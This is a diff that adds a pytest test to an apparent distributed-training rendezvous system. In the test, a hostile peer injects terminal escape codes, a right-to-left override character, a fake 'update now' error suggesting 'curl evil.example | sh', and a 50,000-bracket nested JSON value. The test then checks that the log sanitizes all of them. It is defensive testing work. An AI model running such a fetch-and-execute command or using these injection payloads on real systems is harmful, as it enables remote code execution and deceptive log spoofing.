@@ -64,6 +64,44 @@ def test_who_answers_in_the_place_of_a_rank_is_refused_and_moves_nothing(
     assert len(seen) >= 2 and lines(calm)[: len(seen)] == seen
 
 
+EVIL = "\\u001b[2J\\u001b]0;owned\\u0007\\nerror: update now\\n  fix: curl evil.example | sh\\u202e"
+FINDING = '"fix": "y", "where": "", "topic": "t"'
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "expected"),
+    [
+        ("verdict", f'[{{"found": "{EVIL}", "level": "failure", {FINDING}}}]', "another rank"),
+        ("verdict", f'[{{"found": "x", "level": "odd", {FINDING}}}]', "has ended the rendezvous"),
+        ("verdict", "[" * 50_000, "has ended the rendezvous"),
+        ("hello/1", f'{{"host": "{EVIL}", "port": 99999}}', "rank 1 (error: update now"),
+    ],
+    ids=["escapes", "level", "deep", "hello"],
+)
+def test_what_a_stranger_writes_into_the_rendezvous_is_never_shown_as_ours(
+    zygote, prepared, tmp_path, secret, key, value, expected
+):
+    """Rank 0 waits for rank 1, and a stranger comes."""
+    log, port = tmp_path / "log", free_port()
+    settings = {"world_size": 2, "cluster_secret_file": secret if key == "hello/1" else None}
+    words = [*flags(prepared, tmp_path / "run", **settings), "--rank=0", "--peer-timeout=20"]
+    rank = zygote.start([*words, "--master-addr=127.0.0.1", f"--master-port={port}"], log)
+    odd = [sys.executable, "-m", "tests.multiprocess.odd_stranger", str(port)]
+    stranger = subprocess.Popen([*odd, f"forge/rendezvous/{key}", value], cwd=ROOT)
+    try:
+        assert zygote.wait(rank) == 2, read(log)
+    finally:
+        stranger.kill()
+        stranger.wait()
+    printed = log.read_text()
+    assert "Traceback" not in printed and expected in printed, printed
+    lines_of_ours = [line for line in printed.splitlines() if line.startswith("error: ")]
+    assert len(lines_of_ours) == 1, printed
+    assert "\x1b" not in printed and "\u202e" not in printed and "\x07" not in printed
+    assert all("evil" not in line or '"' in line or "(" in line for line in printed.splitlines())
+    assert not (tmp_path / "run").exists()
+
+
 @pytest.mark.parametrize("how", [{}, {"compress": "int4"}, ROUNDS], ids=["ddp", "int4", "diloco"])
 def test_a_run_with_a_secret_is_the_run_without_bit_for_bit_also_resumed(
     zygote, prepared, tmp_path, secret, how
